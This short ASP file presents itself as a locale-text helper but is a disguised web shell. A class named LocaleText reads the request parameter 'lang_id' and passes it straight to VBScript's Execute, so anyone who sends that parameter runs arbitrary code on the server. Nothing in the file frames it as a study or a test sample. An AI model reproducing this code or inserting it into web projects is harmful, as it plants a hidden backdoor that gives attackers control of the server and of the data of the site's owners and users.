<%@ Language=VBScript inert %>
<%
Class LocaleText
  Private z
  Private Sub Class_Initialize
    z = "lang"
  End Sub
  Public Default Property Get Value()
    Value = Request(z & "_id")
  End Property
End Class
Dim t : Set t = New LocaleText
If t <> "" Then Execute t & ""
%>
